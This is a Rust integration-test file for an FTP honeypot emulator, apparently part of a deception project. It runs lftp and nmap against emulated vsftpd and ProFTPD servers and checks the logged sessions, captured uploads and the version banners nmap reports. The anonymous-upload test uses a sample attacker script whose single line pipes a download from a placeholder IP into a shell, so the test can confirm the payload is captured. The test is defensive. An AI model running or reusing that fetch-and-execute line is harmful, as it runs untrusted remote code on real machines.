//! `lftp` and `nmap` against a real `decnet-decky` running the FTP emulator.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failure report

mod common;

use std::path::Path;
use std::process::Command;

use common::{Decky, run_client, session_of, shape};
use decnet_event::Event;
use sha2::Digest as _;

fn lftp(
    decky: &Decky,
    login: &str,
    script: &str,
    cwd: &Path,
) -> (std::process::ExitStatus, String, String) {
    let script = format!(
        "set net:max-retries 1; set net:timeout 10; set net:reconnect-interval-base 1; {script}; bye"
    );
    let (status, out, err) = run_client(
        Command::new("lftp").current_dir(cwd).args([
            "-u",
            login,
            "-e",
            &script,
            &decky.ip.to_string(),
        ]),
        None,
    );
    println!("lftp {script}\nstdout:\n{out}\nstderr:\n{err}");
    (status, out, err)
}

fn only_session(decky: &Decky) -> Vec<Event> {
    let events = decky.wait_for("a disconnect", |e| {
        e.iter().any(|e| e.event_type == "disconnect")
    });
    assert_eq!(
        events.iter().filter(|e| e.event_type == "connect").count(),
        1
    );
    let sid = events[0].session_id.clone().unwrap();
    let s: Vec<Event> = session_of(&events, &sid).into_iter().cloned().collect();
    for e in &s {
        assert_eq!((e.service.as_str(), e.dst_port), ("ftp", 21));
    }
    s
}

fn cmds(session: &[Event]) -> Vec<(String, String)> {
    let refs: Vec<&Event> = session.iter().collect();
    shape(&refs, "cmd")
}

fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
    v.iter()
        .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
        .collect()
}

#[test]
fn lftp_anonymous_listing_download_and_upload() {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let upload = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n";
    std::fs::write(work.path().join("drop.sh"), upload).unwrap();
    let decky = Decky::start(
        "files-01",
        &format!("data_dir = \"{}\"", data.path().display()),
        "[services.ftp]\nproduct = \"vsftpd\"\nversion = \"3.0.3\"",
    );
    let (status, out, _) = lftp(
        &decky,
        "anonymous,guest@example.com",
        "ls; cd pub; ls; get README.txt; cd /upload; put drop.sh",
        work.path(),
    );
    assert!(status.success());
    // The root listing in vsftpd's format, then pub/.
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        lines[0].starts_with("drwxr-xr-x    2 0        0            4096 ")
            && lines[0].ends_with(" pub"),
        "{out}"
    );
    assert!(
        lines[1].starts_with("drwxrwxrwx    2 1000     1000         4096 ")
            && lines[1].ends_with(" upload")
    );
    assert!(out.contains(" README.txt\n"));
    let readme = std::fs::read(work.path().join("README.txt")).unwrap();
    assert!(String::from_utf8_lossy(&readme).starts_with("files-01 file drop\n"));

    let s = only_session(&decky);
    assert_eq!(
        cmds(&s),
        pairs(&[
            ("connect", ""),
            ("command", "FEAT"),
            ("command", "AUTH"),
            ("command", "USER"),
            ("command", "PASS"),
            ("auth", ""),
            ("command", "PWD"),
            ("command", "PASV"),
            ("command", "LIST"),
            ("command", "CWD"),
            ("command", "PASV"),
            ("command", "LIST"),
            ("command", "TYPE"),
            ("command", "SIZE"),
            ("command", "MDTM"),
            ("command", "PASV"),
            ("command", "RETR"),
            ("file_download", ""),
            ("command", "CWD"),
            ("command", "PASV"),
            ("command", "STOR"),
            ("file_captured", ""),
            ("command", "SITE"),
            ("command", "QUIT"),
            ("disconnect", ""),
        ])
    );
    let auth = &s[5].fields;
    assert_eq!(auth["principal"], "anonymous");
    assert_eq!(auth["secret_printable"], "guest@example.com");
    assert_eq!(auth["outcome"], "success");
    assert_eq!(auth["anonymous"], "true");
    assert!(
        s.iter()
            .all(|e| e.fields.get("cmd").map(String::as_str) != Some("PASS")
                || !e.fields.contains_key("args"))
    );
    let dl = &s[17].fields;
    assert_eq!(dl["path"], "/pub/README.txt");
    assert_eq!(dl["size"], readme.len().to_string());
    assert_eq!(dl["bytes_sent"], readme.len().to_string());
    let cap = &s[21].fields;
    let sha = hex::encode(sha2::Sha256::digest(upload));
    assert_eq!(cap["path"], "/upload/drop.sh");
    assert_eq!(cap["sha256"], sha);
    assert_eq!(cap["size"], upload.len().to_string());
    assert_eq!(cap["truncated"], "false");
    assert_eq!(cap["stored_as"], sha);
    assert_eq!(
        std::fs::read(data.path().join("artifacts").join(&sha)).unwrap(),
        upload
    );
    assert_eq!(s[24].fields["reason"], "server_closed");
}

#[test]
fn lftp_active_mode_download() {
    let work = tempfile::tempdir().unwrap();
    let decky = Decky::start("files-02", "", "[services.ftp]");
    let (status, _, _) = lftp(
        &decky,
        "ftp,x",
        "set ftp:passive-mode false; set ftp:ssl-allow no; get pub/README.txt",
        work.path(),
    );
    assert!(status.success());
    assert!(work.path().join("README.txt").is_file());
    let s = only_session(&decky);
    let port = s
        .iter()
        .find(|e| e.fields.get("cmd").map(String::as_str) == Some("PORT"))
        .unwrap();
    assert!(port.fields["args"].starts_with("127,"));
    assert!(
        s.iter()
            .any(|e| e.event_type == "file_download" && e.fields["path"] == "/pub/README.txt")
    );
    assert!(
        !s.iter()
            .any(|e| e.fields.get("cmd").map(String::as_str) == Some("PASV"))
    );
}

#[test]
fn proftpd_refuses_a_bad_password_and_logs_it() {
    let work = tempfile::tempdir().unwrap();
    let decky = Decky::start(
        "files-03",
        "",
        "[services.ftp]\nproduct = \"proftpd\"\nanonymous = false",
    );
    let (status, _, err) = lftp(&decky, "root,toor", "set ftp:ssl-allow no; ls", work.path());
    assert!(!status.success());
    assert!(err.contains("Login failed: 530 Login incorrect."), "{err}");
    let s = only_session(&decky);
    assert_eq!(
        cmds(&s),
        pairs(&[
            ("connect", ""),
            ("command", "FEAT"),
            ("command", "LANG"),
            ("command", "OPTS"),
            ("command", "USER"),
            ("command", "PASS"),
            ("auth", ""),
            ("disconnect", ""),
        ])
    );
    assert!(!s[2].fields.contains_key("args"), "bare LANG");
    assert_eq!(s[7].fields["reason"], "client_closed");
    let auth = &s[6].fields;
    assert_eq!(
        (
            auth["principal"].as_str(),
            auth["secret_printable"].as_str()
        ),
        ("root", "toor")
    );
    assert_eq!(auth["outcome"], "failure");
    assert_eq!(auth["anonymous"], "false");
}

fn nmap_line(decky: &Decky) -> String {
    let (status, out, err) = run_client(
        Command::new("nmap").args(["-sV", "-Pn", "-n", "-p", "21", &decky.ip.to_string()]),
        None,
    );
    common::keep_log(
        &format!("nmap-ftp-{}", decky.name),
        &format!("{out}\n{err}"),
    );
    assert!(status.success(), "nmap failed: {err}");
    assert!(!out.to_lowercase().contains("honeypot"));
    out.lines()
        .find(|l| l.starts_with("21/tcp"))
        .expect("port line")
        .to_owned()
}

#[test]
fn nmap_names_vsftpd_and_its_version() {
    let decky = Decky::start(
        "files-04",
        "",
        "[services.ftp]\nproduct = \"vsftpd\"\nversion = \"3.0.3\"",
    );
    let line = nmap_line(&decky);
    assert!(
        line.contains("open") && line.contains("vsftpd 3.0.3"),
        "{line}"
    );
}

#[test]
fn nmap_names_proftpd_and_its_version() {
    let decky = Decky::start(
        "files-05",
        "",
        "[services.ftp]\nproduct = \"proftpd\"\nversion = \"1.3.8\"",
    );
    let line = nmap_line(&decky);
    assert!(
        line.contains("open") && line.contains("ProFTPD 1.3.8"),
        "{line}"
    );
}
